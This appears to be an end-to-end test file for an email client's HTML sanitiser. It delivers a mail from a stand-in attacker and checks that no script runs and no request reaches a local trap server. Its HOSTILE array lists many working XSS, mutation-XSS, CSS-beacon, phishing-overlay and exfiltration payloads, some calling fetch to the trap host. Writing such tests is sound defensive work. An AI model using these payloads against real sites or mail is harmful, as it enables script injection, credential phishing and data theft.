import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { deliver, mail, requestsOf } from '../factories.ts';
import { company, journeys, now, type Site, seen } from './browser.ts';

/** A server that must hear of nothing. */
async function trap() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', request.url?.endsWith('.png') ? 'image/png' : 'text/html');
    response.end(request.url?.endsWith('.png') ? PIXEL : '<script>parent.caught=1</script>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    heard,
    url,
    [Symbol.asyncDispose]: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const RUN = "top.caught=1;parent.caught=1;window.caught=1;alert('caught');fetch('TRAP/ran')";

/** Everything by which a mail has ever got out of its frame; TRAP is the server's address. */
const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="TRAP/script.js"></script>`,
  `<script type="module">import 'TRAP/module.js'</script>`,
  `<img src="x" onerror="${RUN}">`,
  `<p onclick="${RUN}" onmouseover="${RUN}" tabindex="0" onfocus="${RUN}" autofocus>handler</p>`,
  `<body onload="${RUN}"><video onloadstart="${RUN}" src="TRAP/v.mp4" poster="TRAP/poster.png" autoplay></video>`,
  `<details open ontoggle="${RUN}"><summary>toggle</summary></details>`,
  `<form action="TRAP/form" method="post"><input name="a" autofocus onfocus="${RUN}"><button id="submit">Sign in again</button></form>`,
  `<button form="x" formaction="TRAP/formaction">Go</button><form id="x"></form>`,
  `<style>@import url(TRAP/import.css);@font-face{font-family:f;src:url(TRAP/font.woff2)}*{font-family:f;background:url(TRAP/css.png)}</style>`,
  `<link rel="stylesheet" href="TRAP/style.css"><link rel="prefetch" href="TRAP/prefetch"><link rel="preload" as="image" href="TRAP/preload.png"><link rel="dns-prefetch" href="TRAP"><link rel="icon" href="TRAP/icon.png">`,
  `<div style="position:fixed;inset:0;z-index:2147483647;background:url(TRAP/overlay.png) red">Your session has ended</div>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="TRAP/svg.png"/><use href="TRAP/use.svg#a"/><foreignObject><iframe src="TRAP/foreign"></iframe></foreignObject><animate onbegin="${RUN}" attributeName="x"/><a xlink:href="javascript:${RUN}"><text y="20">svg</text></a></svg>`,
  `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script><image href="TRAP/data.png"/></svg>`).toString('base64')}">`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">math</maction><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<a id="js" href="javascript:${RUN}">javascript</a><a id="js2" href="  java&#10;script:${RUN}">split</a><a id="data" href="data:text/html,<script>${RUN}</script>">data</a><a id="vb" href="vbscript:x">vb</a>`,
  `<meta http-equiv="refresh" content="0;url=TRAP/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="TRAP/base/" target="_top"><img src="relative.png">`,
  `<iframe src="TRAP/iframe"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><frame src="TRAP/frame"><portal src="TRAP/portal"></portal>`,
  `<object data="TRAP/object"></object><embed src="TRAP/embed"><applet code="TRAP/applet"></applet>`,
  `<img src="TRAP/pixel.png" width="1" height="1"><img srcset="TRAP/set.png 1x, TRAP/set2.png 2x"><img src="TRAP/pic.png" width="80" height="40" alt="A picture" loading="eager">`,
  `<picture><source srcset="TRAP/source.png"><img src="TRAP/picture.png"></picture><input type="image" src="TRAP/input.png">`,
  `<audio src="TRAP/a.mp3" autoplay></audio><track src="TRAP/t.vtt"><table background="TRAP/table.png"><tr><td background="TRAP/td.png">cell</td></tr></table>`,
  `<a ping="TRAP/ping" href="#x">ping</a><blockquote cite="TRAP/cite">cite</blockquote>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript><template><script>${RUN}</script></template>`,
  `<!--><img src=x onerror="${RUN}">--><![CDATA[<script>${RUN}</script>]]><xmp><script>${RUN}</script></xmp>`,
  `<a id="phish" href="TRAP/phish">https://bank.example/login</a>`,
];

async function openMail(site: Site, html: string, width?: { width: number; height: number }): Promise<Page> {
  const larkfield = await company(site);
  const box = await site.world.owner((db) =>
    db
      .selectFrom('mailbox')
      .select(['id', 'desk_id', 'address'])
      .where('org_id', '=', larkfield.orgId)
      .executeTakeFirstOrThrow(),
  );
  const headers = ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8'];
  const mailbox = { id: box.id, deskId: box.desk_id, address: box.address };
  await deliver(
    site.world,
    larkfield,
    mailbox,
    mail({ from: 'Eve Buyer <eve@evil.test>', headers, body: html }),
  );
  const id = (await requestsOf(site.world, larkfield)).at(-1)?.id ?? '';
  const page = await site.open(
    larkfield.founder,
    `${now(larkfield)}/${id}`,
    width ? { viewport: width } : {},
  );
  await page.getByRole('button', { name: 'Show as sent' }).click();
  await seen(page.frameLocator('iframe.heed-message-html').getByText('The end of the mail'));
  return page;
}

const end = '<p>The end of the mail</p>';

journeys('A hostile mail', (openSite) => {
  test('runs nothing, asks nobody, goes nowhere and covers nothing', async () => {
    await using evil = await trap();
    const site = await openSite();
    const html = `${HOSTILE.join('\n')}${end}`.replaceAll('TRAP', evil.url);
    const page = await openMail(site, html);
    const before = page.url();
    const frame = page.frameLocator('iframe.heed-message-html');

    // Whatever waits for a press gets one.
    for (const target of await frame.locator('p, summary, button, input, blockquote, td').all())
      await target.click({ force: true, timeout: 1_000 }).catch(() => undefined);
    const opened: string[] = [];
    page.context().on('page', (other) => opened.push(other.url()));
    for (const id of ['js', 'js2', 'data', 'vb'])
      await frame
        .locator(`#${id}, a:has-text("${id}")`)
        .first()
        .click({ timeout: 500 })
        .catch(() => undefined);
    await page.waitForLoadState('networkidle');

    expect(evil.heard).toEqual([]);
    expect(opened).toEqual([]);
    expect(page.url()).toBe(before);
    expect(await page.evaluate(() => 'caught' in window)).toBe(false);
    // A dialog would stand among the troubles, which the journey expects to be none.
    const tags = await frame
      .locator('*')
      .evaluateAll((nodes) => [...new Set(nodes.map((node) => node.localName))]);
    for (const tag of [
      'script',
      'link',
      'form',
      'input',
      'iframe',
      'object',
      'embed',
      'svg',
      'math',
      'video',
      'audio',
      'portal',
    ])
      expect([tag, tags.includes(tag)]).toEqual([tag, false]);
    // The frame's own two.
    expect(await frame.locator('style, meta').count()).toBe(2);
    const attributes = await frame
      .locator('body *')
      .evaluateAll((nodes) => [...new Set(nodes.flatMap((node) => node.getAttributeNames()))]);
    expect(
      attributes.filter((name) => /^on|style|srcset|background|ping|action|autofocus/.test(name)),
    ).toEqual([]);

    // Nothing leaves the frame: the point in the middle of the rail is still the rail's.
    const above = await page.evaluate(() => document.elementFromPoint(20, 20)?.closest('iframe') === null);
    expect(above).toBe(true);
    await seen(
      frame.getByText(`(leads to 127.0.0.1)`),
      page.getByText(/remote pictures not loaded · 1 tracking picture left out/),
    );
    await page.getByRole('button', { name: 'Show as text' }).click();
    expect(evil.heard).toEqual([]);
  });

  test('shows its pictures when asked, but no tracking one, and for its sender always once chosen', async () => {
    await using evil = await trap();
    const site = await openSite();
    const pictures = [
      '<img src="TRAP/pic.png" width="80" height="40" alt="A picture">',
      '<img src="TRAP/pixel.png" width="1" height="1">',
    ];
    const page = await openMail(site, `${pictures.join('')}${end}`.replaceAll('TRAP', evil.url));
    await seen(page.getByText('1 remote picture not loaded · 1 tracking picture left out'));
    expect(evil.heard).toEqual([]);
    await page.getByRole('button', { name: 'Show pictures' }).click();
    await seen(page.getByText('1 remote picture loaded · 1 tracking picture left out'));
    await expect.poll(() => evil.heard, { timeout: 5_000 }).toEqual(['/pic.png']);
    await page.getByRole('button', { name: 'Always for eve@evil.test' }).click();
    await seen(page.getByRole('button', { name: 'No longer for eve@evil.test' }));
    await page.reload();
    await page.getByRole('button', { name: 'Show as sent' }).click();
    await expect.poll(() => evil.heard, { timeout: 5_000 }).toEqual(['/pic.png', '/pic.png']);
  });
});
